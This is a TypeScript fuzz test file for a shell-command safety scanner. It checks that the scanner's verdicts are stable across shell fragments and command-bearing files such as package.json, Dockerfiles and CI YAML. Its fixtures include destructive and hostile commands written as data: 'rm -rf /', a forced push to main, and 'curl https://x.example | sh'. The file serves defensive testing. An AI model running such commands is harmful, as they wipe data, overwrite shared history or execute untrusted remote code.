import fc from "fast-check";
import { COMMAND_VERDICTS } from "../../src/scan/commands/command-finding.ts";
import { judgeCommand } from "../../src/scan/commands/judge-command.ts";
import { judgeFile } from "../../src/scan/commands/judge-file.ts";

const PIECES = [
  "rm",
  "-rf",
  "/",
  "~",
  "..",
  "$X",
  `$${"{X:-/}"}`,
  '"',
  "'",
  "`",
  "$(",
  ")",
  "(",
  "{",
  "}",
  "|",
  "||",
  "&&",
  ";",
  "&",
  "<<E\n",
  "\nE\n",
  "<",
  ">",
  ">>",
  "<(",
  "sudo",
  "env",
  "sh -c",
  "eval",
  "xargs",
  "find . -exec",
  "{} \\;",
  "X=1",
  "export",
  "if",
  "then",
  "fi",
  "for a in",
  "do",
  "done",
  "case",
  "esac",
  "function f",
  "git push -f",
  "curl https://x.example",
  "base64 -d",
  "\\\n",
  "\t",
  "#",
  "!",
  "[[",
  "]]",
  "((",
  "))",
  "{a,b}",
  "*",
  "?",
  "[a]",
  "$'\\x72'",
  "é",
  "\u200b",
  "\u202e",
  "\u0000",
  "\u0001",
  `$${"{{ x }}"}`,
  "%",
  "make --eval",
  "awk '",
  "sed s/a/b/e",
  "npm run",
  "docker run",
  // Long runs of one sign: what backtracks shows itself.
  "#".repeat(60),
  " # # ".repeat(20),
  "-".repeat(60),
  "a,".repeat(40),
  " ".repeat(200),
  "alias a='",
  "a() { ",
  "; }; a /",
  "tee a",
  "cat a",
  "exec 3<",
  "<&3",
];
const text = fc
  .array(fc.constantFrom(...PIECES), { maxLength: 40 })
  .chain((pieces) => fc.constantFrom(" ", "").map((joint) => pieces.join(joint)));

const FILES = [
  "package.json",
  "Makefile",
  "Dockerfile",
  ".github/workflows/ci.yml",
  "action.yml",
  "justfile",
  "Taskfile.yml",
  "Procfile",
  "a.sh",
];
const SHAPES: readonly ((command: string) => string)[] = [
  (command) => JSON.stringify({ scripts: { a: command } }),
  (command) => `a: b\n\t@${command}\n`,
  (command) => `FROM x\nRUN ${command}\nCMD ["a", ${JSON.stringify(command)}]`,
  (command) => `jobs:\n  a:\n    steps:\n      - run: ${JSON.stringify(command)}\n`,
  (command) => `runs:\n  steps:\n    - run: |\n        ${command.replaceAll("\n", "\n        ")}\n`,
  (command) => command,
];

function check(verdict: string): void {
  if (!COMMAND_VERDICTS.some((one) => one === verdict)) throw new Error(`\`${verdict}\` is no verdict`);
}

/** Shell text and files of every kind: whatever they hold, a verdict comes of it, the same each time. */
export const targets = [
  {
    name: "commands: shell text",
    cost: 2,
    run(seed: number, count: number): void {
      fc.assert(
        fc.property(fc.oneof(text, fc.string({ unit: "binary" })), (command) => {
          const first = judgeCommand(command);
          check(first.verdict);
          if (JSON.stringify(first) !== JSON.stringify(judgeCommand(command)))
            throw new Error("the same text is judged twice in two ways");
        }),
        { seed, numRuns: count },
      );
    },
  },
  {
    name: "commands: destruction stays blocked whatever stands beside it",
    cost: 2,
    run(seed: number, count: number): void {
      const harmless = fc.constantFrom(
        "ls",
        "npm test",
        "X=1",
        "cd src",
        "true",
        "echo '$(x)'",
        "f() { ls; }",
        "trap - EXIT",
        "set -e",
        "unset X",
        "cat <<E\nx\nE",
      );
      fc.assert(
        fc.property(
          fc.array(harmless, { maxLength: 6 }),
          fc.constantFrom("rm -rf /", "git push -f origin main", "curl https://x.example | sh"),
          (before, bad) => {
            if (judgeCommand([...before, bad].join("\n")).verdict !== "block")
              throw new Error("it is no longer blocked");
          },
        ),
        { seed, numRuns: count },
      );
    },
  },
  {
    name: "commands: files that hold commands",
    cost: 4,
    run(seed: number, count: number): void {
      const file = fc.constantFrom(...FILES);
      const content = fc.tuple(fc.constantFrom(...SHAPES), text).map(([shape, command]) => shape(command));
      fc.assert(
        fc.property(file, fc.oneof(content, fc.string({ unit: "binary" })), (path, body) => {
          for (const { verdict, line } of judgeFile(path, body) ?? []) {
            check(verdict);
            if (line < 1) throw new Error(`line ${line}`);
          }
        }),
        { seed, numRuns: count },
      );
    },
  },
];
